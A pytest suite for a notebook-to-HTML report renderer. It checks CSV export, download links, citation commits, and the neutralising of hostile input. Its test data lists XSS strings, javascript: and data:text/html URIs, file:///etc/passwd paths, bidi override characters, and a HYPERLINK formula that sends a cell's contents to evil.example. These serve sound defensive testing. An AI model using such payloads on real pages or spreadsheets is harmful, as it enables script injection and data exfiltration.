"""What a page carries to be kept: the data behind its figures, its results; and that hostile text stays text."""

import base64
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import nbformat
import numpy as np
import pandas as pd
import pytest
from matplotlib.figure import Figure

from helpers import marks, prose, render, results
from helpers.charts import data
from helpers.charts.picture import DATA, Picture
from helpers.prose import Prose
from helpers.table import Table

MADE = datetime(2026, 11, 26, 9, 30, tzinfo=UTC)
START, HOUR = pd.Timestamp("2014-02-22T19:00Z"), pd.Timedelta(hours=1)


@dataclass(frozen=True)
class Row:
    name: str
    low: float
    high: float
    agrees: bool = True


@dataclass(frozen=True)
class View:
    service: str
    times: pd.DatetimeIndex
    rate: dict[float, np.ndarray]
    baseline: tuple[float, float, float]
    rows: tuple[Row, ...] = ()
    others: tuple[tuple[pd.Timestamp, str], ...] = ()
    step: pd.Timedelta = HOUR
    end: pd.Timestamp | None = None


def view(n: int = 3, **more: Any) -> View:
    times = pd.date_range(START, periods=n, freq="h")
    rate = {q: np.arange(n) * q * 1e6 + 1 / 3 for q in (0.025, 0.5, 0.975)}
    return View("Telegram", times, rate, (1.0, 2.0, 3.0), **more)


def read(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


class TestTable:
    def test_arrays_are_columns_rows_are_rows_and_single_values_come_last(self) -> None:
        made = data.table(view(rows=(Row("a", 1, np.inf), Row("b", np.nan, 2, False)), others=((START, "a sale"),)))
        assert made.note == ""
        found = read(made.text)
        assert list(found["table"]) == ["times"] * 3 + ["rows"] * 2 + ["others", "figure"]
        assert list(found["times"][:2]) == ["2014-02-22T19:00:00Z", "2014-02-22T20:00:00Z"]
        assert list(found["rate middle"][:3]) == ["0.333333", "500000", "1000000"]
        assert found.loc[3, ["name", "low", "high", "agrees"]].tolist() == ["a", "1", "inf", "true"]
        assert found.loc[4, ["name", "low", "high", "agrees"]].tolist() == ["b", "", "2", "false"]
        assert found.loc[5, ["time", "label"]].tolist() == ["2014-02-22T19:00:00Z", "a sale"]
        last = found.iloc[-1]
        assert [last[f"baseline {end}"] for end in ("low", "middle", "high")] == ["1", "2", "3"]
        assert (last["service"], last["step hours"]) == ("Telegram", "1")

    def test_one_kind_of_rows_is_a_plain_table(self) -> None:
        assert data.table([Row("a", 1, 2)]).text == "name,low,high,agrees\r\na,1,2,true\r\n"
        assert data.table([]).text == ""
        assert data.table({"rows": (), "level": None}).text == ""

    def test_what_a_thing_is_made_of_carries_its_name(self) -> None:
        @dataclass(frozen=True)
        class Lane:
            service: str
            parts: list[Row]
            counts: np.ndarray

        found = read(data.table([Lane("X", [Row("a", 1, 2)], np.array([5, 6]))]).text)
        assert list(found["table"]) == ["rows", "rows: counts", "rows: counts", "parts"]
        assert list(found["service"]) == ["X"] * 4
        assert list(found["row"]) == ["", "1", "2", ""]

    @pytest.mark.parametrize(
        ("number", "text"),
        [
            (123456789.0, "123457000"),
            (-0.0, "0"),
            (1.23456789e-5, "0.0000123457"),
            (np.float64(0.1) + 0.2, "0.3"),
            (np.int64(7), "7"),
            (-2.5, "-2.5"),
            (-np.inf, "-inf"),
        ],
    )
    def test_numbers_have_six_digits_and_no_exponent(self, number: float, text: str) -> None:
        assert data.table([Row("a", number, 2)]).text.splitlines()[1] == f"a,{text},2,true"

    @pytest.mark.parametrize(
        "text", ["=1+1", "+a", "-a", "@SUM(A1)", "\tx", " =1", '=HYPERLINK("http://x","y")', "−x", "-5"]
    )
    def test_no_cell_is_a_formula(self, text: str) -> None:
        found = read(data.table([Row(text, 1, 2)]).text)["name"][0]
        assert found == (text if text in ("−x", "-5") else f"'{text}")

    def test_lines_and_quotes_inside_a_cell_stay_in_it(self) -> None:
        assert read(data.table([Row('a "b",\r\n=c\0', 1, 2)]).text)["name"].tolist() == ['a "b", =c']

    def test_too_much_is_thinned_and_said(self) -> None:
        made = data.table(view(4000, rows=(Row("a", 1, 2),)), budget=20_000)
        assert len(made.text) <= 20_000
        every = int(made.note.removeprefix("long tables thinned to one row in "))
        found = read(made.text)
        times = pd.to_datetime(found["times"][found["table"] == "times"])
        assert times.diff().dropna().unique().tolist() == [pd.Timedelta(hours=every)]
        assert "rows" in set(found["table"])

    def test_many_rows_are_cut_and_said(self) -> None:
        made = data.table([Row(f"row {n}", n, n) for n in range(2000)], budget=5_000)
        assert len(made.text) <= 5_000
        kept = len(read(made.text))
        assert made.note == f"the first {kept} of 2,000 rows"


def figure(**more: Any) -> dict[str, Any]:
    words = {"alt": "A line.", "caption": "The line.", "source": "made up", **more}
    drawn, _ = Picture(lambda size: Figure(figsize=(size.width / 72, 4)), **words)._repr_mimebundle_()
    return drawn


def page(*shown: Any, **more: Any) -> str:
    """Return the page of a notebook that shows these, without running one."""
    outputs = []
    for one in shown:
        bundle = one if isinstance(one, dict) else {"text/html": one._repr_html_()}
        outputs.append(nbformat.v4.new_output("display_data", data=bundle))
    cells = [
        nbformat.v4.new_markdown_cell("# A question?"),
        nbformat.v4.new_markdown_cell("## The answer"),
        nbformat.v4.new_code_cell("1 + 1", outputs=outputs),
    ]
    fields = {
        "notebook": "03_adoption_after_outage",
        "title": "Who gained?",
        "headline": "Nobody.",
        "outage_id": "whatsapp-2014-02-22",
        "parameters": {"level": 0.95},
        "evidence_ids": [],
        "estimates": [],
        "data_hash": "0" * 64,
    }
    record = results.Record.model_validate(fields | more)
    return render.page(nbformat.v4.new_notebook(cells=cells), record, MADE, {"adoption": "adoption report 03"})


def kept(text: str) -> dict[str, bytes]:
    links = re.findall(r'<a download="([^"]+)" href="data:[^,"]+;base64,([^"]+)"', text)
    return {name: base64.b64decode(content) for name, content in links}


def test_a_page_holds_the_data_behind_each_figure_and_its_results() -> None:
    text = page(figure(data=view()), figure(), figure(data=[Row("é", 1, 2)]))
    files = kept(text)
    assert list(files) == [
        "whatsapp-2014-02-22-figure-1.csv",
        "whatsapp-2014-02-22-figure-2.csv",
        "whatsapp-2014-02-22-results.json",
    ]
    # A spreadsheet needs the mark at the start to read the file as UTF-8.
    assert files["whatsapp-2014-02-22-figure-1.csv"].decode("utf-8-sig") == data.table(view()).text
    assert files["whatsapp-2014-02-22-figure-2.csv"].startswith(b"\xef\xbb\xbfname,low")
    assert json.loads(files["whatsapp-2014-02-22-results.json"])["headline"] == "Nobody."
    assert text.count("data behind this figure, CSV") == 2


def test_the_notebook_carries_the_same_data() -> None:
    assert figure(data=view())[DATA] == {"data": data.table(view()).text, "data_note": ""}
    assert DATA not in figure()
    assert DATA == render.DATA


def test_a_page_that_would_be_too_large_leaves_data_out_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    shown = figure(data=view(600)), figure(data=view())
    monkeypatch.setattr(render, "LIMIT", len(page(*shown).encode()) - 100)
    text = page(*shown)
    assert [name for name in kept(text) if name.endswith("csv")] == ["whatsapp-2014-02-22-figure-2.csv"]
    assert "data behind this figure: in the notebook" in text


CSV = "data:text/csv;charset=utf-8;base64,YQ=="
REFUSED = [
    f'<a href="{CSV}">x</a>',
    f'<a download="" href="{CSV}">x</a>',
    f'<a download="x.html" href="{CSV}">x</a>',
    f'<a download="../x.csv" href="{CSV}">x</a>',
    f'<img alt="x" src="data:," /><area download="x.csv" href="{CSV}">',
    '<a download="x.csv" href="data:text/html;base64,YQ==">x</a>',
    '<a download="x.csv" href="data:text/csv,<script>">x</a>',
    '<a download="x.csv" href="data:image/svg+xml;base64,YQ==">x</a>',
    '<a download="x.csv" href="javascript:alert(1)">x</a>',
    '<a download="x.csv" href="java&#9;script:alert(1)">x</a>',
    '<a download="x.csv" href="vbscript:x">x</a>',
    '<a download="x.csv" href="blob:https://example.org/1">x</a>',
    '<a download="x.csv" href="file:///etc/passwd">x</a>',
    '<a download="x.csv" href="x.csv">x</a>',
]


def test_only_files_to_keep_may_stand_in_an_address() -> None:
    fine = f'<a download="x.csv" href="{CSV}">x</a><a download="x.json" href="data:application/json;base64,e30=">y</a>'
    assert render.page_faults(f"<h1>x</h1>{fine}") == []
    assert [text for text in REFUSED if not render.page_faults(f"<h1>x</h1>{text}")] == []


def test_what_a_notebook_shows_keeps_only_such_addresses() -> None:
    fine = f'<a download="x.csv" href="{CSV}">x</a>'
    assert render._clean(fine) == fine
    for address in ("data:text/html;base64,YQ==", "da&#9;ta:text/html,x", "javascript:alert(1)", " data:,x"):
        assert "href" not in render._clean(f'<a download="x.csv" href="{address}">x</a>')
    assert (
        render._clean('<a class="x" href="https://example.org">x</a>')
        == '<a class="x" href="https://example.org">x</a>'
    )


def test_a_page_says_which_program_made_it_and_how_to_cite_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(prose, "commit", lambda folder: "1234567890abcdef" * 2 + "12345678")
    cited = "“Who gained?” In: Who gains when a service goes down. Report made 26 November 2026, "
    assert f"{cited}commit 1234567890ab." in page()
    monkeypatch.setattr(prose, "commit", lambda folder: "unknown")
    assert f"{cited}tables 000000000000." in page()
    assert "commit unknown" in page()


class TestCommit:
    SHA = "0123456789abcdef0123456789abcdef01234567"

    def put(self, folder: Path, **files: str) -> Path:
        for name, text in files.items():
            path = folder / ".git" / name.replace("__", "/").replace("_", "-")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        return folder

    def test_branch(self, tmp_path: Path) -> None:
        self.put(tmp_path, refs__heads__main=self.SHA + "\n")
        (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
        assert prose.commit(tmp_path) == self.SHA

    def test_packed(self, tmp_path: Path) -> None:
        packed = f"# pack-refs with: peeled\n{'f' * 40} refs/heads/old/refs/heads/main\n{self.SHA} refs/heads/main\n"
        self.put(tmp_path, packed_refs=packed)
        (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
        assert prose.commit(tmp_path) == self.SHA

    def test_no_branch_and_another_work_tree(self, tmp_path: Path) -> None:
        self.put(tmp_path, HEAD=self.SHA)
        assert prose.commit(tmp_path) == self.SHA
        tree = tmp_path / ".git" / "worktrees" / "x"
        tree.mkdir(parents=True)
        (tree / "HEAD").write_text("ref: refs/heads/x\n", encoding="utf-8")
        (tree / "commondir").write_text("../..\n", encoding="utf-8")
        self.put(tmp_path, refs__heads__x="a" * 40)
        other = tmp_path / "other"
        other.mkdir()
        (other / ".git").write_text(f"gitdir: {tree}\n", encoding="utf-8")
        assert prose.commit(other) == "a" * 40

    @pytest.mark.parametrize("head", [None, "", "ref: refs/heads/gone", "<script>", "ref: /etc/passwd", "\0"])
    def test_unknown(self, tmp_path: Path, head: str | None) -> None:
        if head is not None:
            self.put(tmp_path, HEAD=head)
        assert prose.commit(tmp_path) == "unknown"


@pytest.mark.parametrize(
    ("fields", "subject"),
    [
        ({}, "Outage whatsapp-2014-02-22"),
        ({"outage_id": ""}, ""),
        ({"outage_id": "", "notebook": "07_next_outage", "parameters": {"service": "tiktok"}}, "tiktok"),
        (
            {"outage_id": "", "notebook": "04_measured_signups", "parameters": {"outage_start": "2025-03-05T14:00Z"}},
            "Outage of 5 March 2025",
        ),
        (
            {
                "outage_id": "",
                "notebook": "05_who_gained",
                "parameters": {"outages": ["2025-09-15T00:00Z/", "2025-10-01"]},
            },
            "Outage of 15 September 2025 and 1 more",
        ),
    ],
)
def test_below_the_title_stands_what_it_is_about_and_when_it_was_made(fields: dict[str, Any], subject: str) -> None:
    (about,) = re.findall(r'</h1>\s*<p class="about">(.*?)</p>', page(**fields))
    assert re.sub("<.*?>", "", about) == (f"{subject} · " if subject else "") + "made 26 November 2026"


HOSTILE = [
    "<script>document.title = 'run'</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "abc\u202edef\u2066ghi",
    "x" * 10_000,
    "a long note " * 833,
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    frame = pd.DataFrame(
        {
            "publisher": HOSTILE,
            "title": ["a plain title of usual length"] * len(HOSTILE),
            "note": HOSTILE[::-1],
            "n": range(len(HOSTILE)),
            "url": ["javascript:alert(1)", "data:text/html,<script>1</script>", *["https://example.org/a"] * 5],
        }
    )
    rows = [Row(text, 1, 2) for text in HOSTILE]
    text = page(
        Prose(tuple(HOSTILE)),
        Table(frame, "Sources", links={"title": "url"}),
        figure(data=rows, alt=HOSTILE[0], caption=" ".join(HOSTILE[:5]), source=HOSTILE[1]),
        title=HOSTILE[0] + HOSTILE[4],
        headline=HOSTILE[4],
        outage_id=HOSTILE[1],
        parameters={"<b>": HOSTILE[0]},
    )
    path = tmp_path_factory.mktemp("hostile") / "page.html"
    path.write_text(text, encoding="utf-8")
    return path


def test_hostile_text_is_only_text(hostile: Path) -> None:
    text = hostile.read_text(encoding="utf-8")
    assert render.page_faults(text) == []
    assert not re.search(r"<script|<img src=x|href=\"(javascript|data:text/html)", text)
    assert "&lt;script&gt;" in text
    (name, content), *_ = kept(text).items()
    assert re.fullmatch(r"[\w.-]+-figure-1\.csv", name)
    names = read(content.decode("utf-8-sig"))["name"]
    assert list(names) == [f"'{one}" if one.startswith("=") else marks.shown(one) for one in HOSTILE]


@pytest.mark.parametrize(("width", "scheme"), [(360, "light"), (360, "dark"), (1100, "light"), (1100, "dark")])
def test_hostile_text_in_a_browser(hostile: Path, width: int, scheme: str, browser_page: Callable[..., Any]) -> None:
    opened = browser_page(hostile, width=width, height=900, scheme=scheme)
    assert opened.messages == []
    assert [one for one in opened.requests if not one.startswith("data:")] == [hostile.as_uri()]
    assert opened.page.title() != "run"
    assert not opened.scrolls_sideways()
    assert opened.violations() == []
    tall = "[...document.querySelectorAll('tr')].map(row => row.getBoundingClientRect().height)"
    assert max(opened.page.evaluate(tall)) < 320  # ten thousand characters scroll inside their cell
    assert opened.page.evaluate("document.querySelectorAll('td .long').length") == 4


def test_marks_of_direction_turn_nothing_outside_their_cell(hostile: Path, browser_page: Callable[..., Any]) -> None:
    page = browser_page(hostile, width=1100).page
    order = """() => [...document.querySelectorAll('td:nth-child(2)')].map(cell => {
        const walk = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT), text = walk.nextNode();
        return [0, 1, 2, 3].map(i => { const r = document.createRange(); r.setStart(text, i); r.setEnd(text, i + 1);
            return r.getBoundingClientRect().left; });
    })"""
    assert all(lefts == sorted(lefts) for lefts in page.evaluate(order))
    turned = """[...document.querySelectorAll('td, th, p, li, dd, caption, figcaption, h1')]
        .filter(e => getComputedStyle(e).unicodeBidi !== 'isolate').length"""
    assert page.evaluate(turned) == 0


TURNED = "\u202egnol\u2067 \u200fand\u200e \u061con"
SEEN = "[U+202E]gnol[U+2067] [U+200F]and[U+200E] [U+061C]on"
#: Arabic, Hebrew, Persian and emoji need their letters and joiners.
KEPT = (
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 "
    "\U0001f468\u200d\U0001f469"
)


def labelled(size: Any) -> Figure:
    drawn = Figure(figsize=(size.width / 72, 4))
    drawn.text(0.1, 0.5, "abc \u202egnol def")
    return drawn


@pytest.fixture(scope="module")
def turned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Make a page of text with marks of direction that nothing ends."""
    address = "https://example.org/\u202egnol"
    frame = pd.DataFrame({"title": [TURNED, KEPT], "note": [KEPT, "&#8238;x"], "url": [address, address]})
    words = {"alt": f"A line, {TURNED}.", "caption": f"The line {TURNED}.", "source": TURNED}
    drawn, _ = Picture(labelled, **words, data=[Row(f"{TURNED} {KEPT}", 1, 2)])._repr_mimebundle_()
    shown = Table(frame, f"Sources {TURNED}", links={"title": "url"})
    entity = {"text/html": "<p title='&rlm;'>An entity: &#8238;gnol</p>"}
    assert drawn[DATA]["data"].count("\u202e") == 1  # the notebook keeps what was written
    text = page(Prose((TURNED, KEPT)), shown, drawn, entity, title=f"Who {TURNED}?", headline=TURNED)
    path = tmp_path_factory.mktemp("turned") / "page.html"
    path.write_text(text, encoding="utf-8")
    return path


def test_a_mark_of_direction_is_shown_and_not_obeyed(turned: Path) -> None:
    text = turned.read_text(encoding="utf-8")
    drawings = [base64.b64decode(one).decode() for one in re.findall(r"data:image/svg\+xml;base64,([^\"]+)", text)]
    (table, content), (_, given) = kept(text).items()
    assert table.endswith(".csv")
    assert len(drawings) == 2
    for one in (text, *drawings, content.decode("utf-8-sig")):
        assert not marks.TURNING.search(one)
    for one in (f"<title>Who {SEEN}?</title>", f'content="{SEEN}"', f'alt="A line, {SEEN}."', f"The line {SEEN}."):
        assert one in text
    assert f'aria-label="Sources {SEEN}"' in text
    assert "An entity: [U+202E]gnol" in text
    assert "&amp;#8238;x" in text  # that was text already
    assert all("abc [U+202E]gnol def" in one for one in drawings)
    assert read(content.decode("utf-8-sig"))["name"].tolist() == [f"{SEEN} {KEPT}"]
    assert text.count(KEPT) == 3
    assert 'href="https://example.org/%E2%80%AEgnol"' in text
    assert json.loads(given)["headline"] == TURNED  # numbers and words as they were, for a program


def test_what_follows_a_mark_of_direction_reads_on(turned: Path, browser_page: Callable[..., Any]) -> None:
    page = browser_page(turned, width=1100).page
    order = """e => { const text = e.firstChild;
        return [...text.data].map((_, i) => { const r = document.createRange(); r.setStart(text, i);
            r.setEnd(text, i + 1); return r.getBoundingClientRect().left; }); }"""
    lefts = page.locator("p", has_text="gnol").first.evaluate(order)
    assert len(lefts) == len(SEEN)
    assert lefts == sorted(lefts)


def test_downloads_can_be_kept_without_a_network(hostile: Path, browser_page: Callable[..., Any]) -> None:
    page = browser_page(hostile, width=1100).page
    for name, ending in (("data behind this figure", "csv"), ("every number of this report", "json")):
        with page.expect_download() as waiting:
            page.get_by_role("link", name=name).click()
        assert waiting.value.suggested_filename.endswith(ending)
        assert Path(waiting.value.path()).read_bytes() in kept(hostile.read_text(encoding="utf-8")).values()
